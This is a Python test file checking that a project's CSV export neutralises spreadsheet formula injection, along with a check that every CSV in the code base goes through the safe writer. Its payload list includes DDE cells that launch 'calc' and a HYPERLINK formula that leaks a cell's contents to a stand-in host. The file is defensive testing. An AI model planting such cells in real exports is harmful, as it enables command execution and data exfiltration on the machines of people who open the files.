"""CSV cells a spreadsheet would run as formulas are neutralised, in every CSV outreach writes."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from outreach.core.csv_export import FORMULA_START, safe_cell, writer
from tests.conftest import ROOT

#: Formula payloads: OWASP's list, the full-width forms and the same after leading whitespace.
PAYLOADS = [
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(A1)",
    " =1+1",
    "  +1+cmd|' /C calc'!A0",
    "\u3000-2+3",
    "\xa0@SUM(A1)",
    "\n=1+1",
    " ＝1+1",
]

#: Text a spreadsheet shows as it is.
PLAIN = ["linkedin", "referral - a friend", "2026-09-07", "a=b", "'quoted", "微信", "c-1", " spaced", ""]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_leading_quote_and_keeps_its_text(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, 0, 2.5, -0.25, True, None])
def test_numbers_stay_numbers(number: Any) -> None:
    assert safe_cell(number) is number


def test_the_writer_neutralises_every_text_cell_and_writes_numbers_as_numbers() -> None:
    out = io.StringIO()
    csv_writer = writer(out)
    csv_writer.writerow(["group", "value"])
    csv_writer.writerows([[payload, -3] for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["group", "value"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-3"}
    for row in rows:
        for cell in row:
            assert cell == "-3" or cell.lstrip()[:1] not in FORMULA_START


def test_a_line_break_inside_a_cell_cannot_start_a_row() -> None:
    out = io.StringIO()
    writer(out).writerows([["x\r=1+1", 1], ["y\n@SUM(A1)", 2], ["z\r\n-2+3", 3]])
    assert out.getvalue().count("\r\n") == 4  # three row ends, one inside a quoted cell
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["x\r=1+1", "1"], ["y\n@SUM(A1)", "2"], ["z\r\n-2+3", "3"]]


def test_every_csv_in_the_code_base_goes_through_the_safe_writer() -> None:
    direct = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("outreach", "workers")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path.name != "csv_export.py" and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
